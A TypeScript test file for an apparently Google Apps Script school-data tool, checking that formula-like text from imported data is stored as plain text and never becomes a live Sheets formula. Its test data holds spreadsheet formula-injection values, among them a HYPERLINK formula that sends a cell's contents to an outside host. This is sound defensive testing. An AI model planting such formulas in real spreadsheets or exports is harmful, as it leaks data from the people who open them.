/**
 * Text from the data never becomes a formula in Sheets (issue 13 § 1): the demo region with
 * formula-like text in every text column (tests/helpers/hostile.ts) through the built Code.js —
 * the identification, «Проверка данных», the wizard's import into «Результаты», the import of an
 * export, the input templates. The fake turns a string beginning with «=» written to a cell not
 * formatted «@» into a live formula, as Sheets does; the test is stricter than Sheets: every
 * formula-like text the project writes (also «+», «-», «@», blanks before them) must sit in a cell
 * formatted as plain text, read back as typed, and no formula may come from the data (the
 * project's own, the data check's links, are allowed by what they are).
 */
import * as path from 'path';
import { isFormulaLike } from '../shared/text-guard';
import { type CellValue, type FakeSheet, gasWorld, loadBundle } from './fakes/gas-fakes';
import { csvTables, regionWorld } from './fakes/gas-region';
import { PAYLOADS, fromPayload, hostileTables } from './helpers/hostile';
import { source } from './import-helpers';

const DEMO_CSV = path.join(__dirname, '..', 'examples', 'demo-region-csv');

/** The data check's links to cells: the project's own formulas. */
const OWN_FORMULA = /^=HYPERLINK\("#gid=\d+(&range=[A-Z]+\d+)?","[^"]*"\)$/;

/** Every formula on the sheets, with problems: those not the project's own, and formula-like text in cells not formatted «@». */
function audit(sheets: FakeSheet[]): { foreign: string[]; unguarded: string[]; texts: string[] } {
  const foreign: string[] = [];
  const unguarded: string[] = [];
  const texts: string[] = [];
  for (const s of sheets) {
    for (const [key, f] of s.formulas) if (fromPayload(f) || !OWN_FORMULA.test(f)) foreign.push(`${s.name}!${key} ${f}`);
    s.values.forEach((row, r) => row?.forEach((v, c) => {
      if (!isFormulaLike(v)) return;
      texts.push(v);
      if (s.formatAt(r + 1, c + 1) !== '@') unguarded.push(`${s.name}!R${r + 1}C${c + 1} ${JSON.stringify(v)}`);
    }));
  }
  return { foreign, unguarded, texts };
}

function written(world: ReturnType<typeof gasWorld>, inputs: FakeSheet[]): FakeSheet[] {
  return world.spreadsheet.sheets.filter((s) => !inputs.includes(s));
}

describe('hostile text in every text column of the input', () => {
  const tables = hostileTables(csvTables(DEMO_CSV));

  test('the identification writes it as text: no formula from the data, every such cell «@», names as typed', () => {
    const world = regionWorld(tables, true);
    const ctx = loadBundle(world.globals);
    for (const s of world.inputs) s.readOnly = true;
    ctx.shnorRunIdentification();
    const out = written(world, world.inputs);
    expect(out.map((s) => s.name)).toEqual(expect.arrayContaining(['Идентификация 2025', 'Модель ИСБШ 2025', 'Свод 2025', 'Перечни 2025']));
    const { foreign, unguarded, texts } = audit(out);
    expect(foreign).toEqual([]);
    expect(unguarded).toEqual([]);
    // Names, municipalities, codes and factor headers reach the sheets as typed (the reader trims blanks).
    for (const p of PAYLOADS.slice(0, 4)) expect(texts).toContain(p);
    expect(texts).toContain('=1+1');
    const ident = world.spreadsheet.sheet('Идентификация 2025')!;
    const names = ident.getRange(1, 1, ident.getLastRow(), ident.getLastColumn()).getValues().flat();
    for (const p of PAYLOADS.slice(0, 4)) expect(names).toContain(p);
    expect(names).toContain('=HYPERLINK("http://x"&A1,"y")0');
    const model = world.spreadsheet.sheet('Модель ИСБШ 2025')!.grid().flat();
    expect(model).toContain('+1+1');
  });

  test('«Проверка данных» quotes it as text; its own links stay formulas', () => {
    const t = hostileTables(csvTables(DEMO_CSV));
    // An error too, so that the check lists problems with links: a hostile school without a name.
    t.schools[40][t.schools[0].indexOf('Наименование ОО')] = '';
    const world = regionWorld(t, true);
    const ctx = loadBundle(world.globals);
    for (const s of world.inputs) s.readOnly = true;
    ctx.shnorCheckData();
    const check = world.spreadsheet.sheet('Проверка данных')!;
    const { foreign, unguarded, texts } = audit([check]);
    expect(foreign).toEqual([]);
    expect(unguarded).toEqual([]);
    expect(check.formulas.size).toBeGreaterThan(0);
    expect(texts.length + check.grid().flat().filter((v) => typeof v === 'string' && v.includes('=HYPERLINK("http://x"')).length).toBeGreaterThan(0);
  });

  test('the wizard\'s import into «Результаты»: hostile codes, procedures and subjects appended as text', () => {
    const world = gasWorld();
    const rows: CellValue[][] = [['Год', 'Код', 'Процедура', 'Класс', 'Предмет', 'Участников', 'Средний балл']];
    PAYLOADS.forEach((p, i) => rows.push([2025, p, p, 4, p, 20 + i, 3.5]));
    const src = world.spreadsheet.add('Выгрузка', rows);
    src.readOnly = true;
    const ctx = loadBundle(world.globals);
    const report = ctx.shnorWizardImportResults({
      sourceSheet: 'Выгрузка', headerRow: 1,
      columns: { 'Год': 0, 'Код ОО': 1, 'Процедура': 2, 'Класс': 3, 'Предмет': 4, 'Участников': 5, 'Средний балл': 6 }, constants: {},
    }) as { appended: number };
    expect(report.appended).toBe(PAYLOADS.length);
    const results = world.spreadsheet.sheet('Результаты')!;
    const { foreign, unguarded, texts } = audit(written(world, [src]));
    expect(foreign).toEqual([]);
    expect(unguarded).toEqual([]);
    // Each payload as a code, a procedure and a subject, exactly as typed.
    for (const p of PAYLOADS) expect(texts.filter((t) => t === p)).toHaveLength(3);
    const grid = results.grid();
    const last = grid.slice(-PAYLOADS.length);
    last.forEach((row, i) => expect(row.filter((v) => v === PAYLOADS[i])).toHaveLength(3));
  });

  test('the import of a social passport with hostile headers: nothing of them reaches a sheet, no formula', async () => {
    const world = gasWorld();
    for (const s of await source('region.xlsx')) {
      world.spreadsheet.add(s.name, s.grid.map((r) => r.map((c) => (c === null || c === undefined ? '' : c)) as CellValue[]));
    }
    const [passport] = await source('passport-2025.xlsx');
    const grid = passport.grid.map((r) => r.map((c) => (c === null || c === undefined ? '' : c)) as CellValue[]);
    // Two indicators of the passport under hostile headers.
    const head = grid.findIndex((r) => r.includes('Код ОО'));
    grid[head][grid[head].indexOf('Под опекой')] = PAYLOADS[0];
    grid[head][grid[head].indexOf('В приёмных семьях')] = PAYLOADS[1];
    world.spreadsheet.add(passport.name, grid);
    const inputs = [...world.spreadsheet.sheets];
    const before = new Map(inputs.map((s) => [s.name, s.grid()]));
    const ctx = loadBundle(world.globals);
    const report = ctx.shnorWizardImportExport({ kind: 'passport', sourceSheet: passport.name, preview: false }) as { failed: boolean };
    expect(report.failed).toBe(false);
    const { foreign, unguarded, texts } = audit(world.spreadsheet.sheets.filter((s) => s.name !== passport.name));
    expect(foreign).toEqual([]);
    expect(unguarded).toEqual([]);
    // The importer takes only the indicators it knows, under their own names: the hostile headers go nowhere.
    expect(texts).toEqual([]);
    expect(world.spreadsheet.sheet('Социальные показатели')!.grid().flat().filter((v) => PAYLOADS.includes(v as never))).toEqual([]);
    expect(world.spreadsheet.sheet(passport.name)!.grid()).toEqual(before.get(passport.name));
  });

  test('the input templates the wizard creates hold no formula', () => {
    const world = gasWorld();
    const ctx = loadBundle(world.globals);
    ctx.shnorCreateTemplates();
    expect(world.spreadsheet.sheets.length).toBeGreaterThan(0);
    const { foreign, unguarded } = audit(world.spreadsheet.sheets);
    expect(foreign).toEqual([]);
    expect(unguarded).toEqual([]);
  });
});
